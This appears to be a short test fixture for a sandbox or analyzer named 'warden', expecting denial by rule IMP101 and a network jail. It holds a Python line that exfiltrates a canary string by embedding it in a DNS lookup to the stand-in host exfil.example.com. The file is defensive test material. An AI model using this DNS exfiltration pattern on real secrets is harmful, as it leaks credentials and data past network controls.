# warden-case: j-dns-exfil
# group: J
# technique: DNS lookup carrying data in the label
# variant: plain
# expect-static: deny
# expect-rules: IMP101
# expect-jail: layer ns:net
import socket

secret = "warden-canary"
socket.gethostbyname(f"{secret}.exfil.example.com")
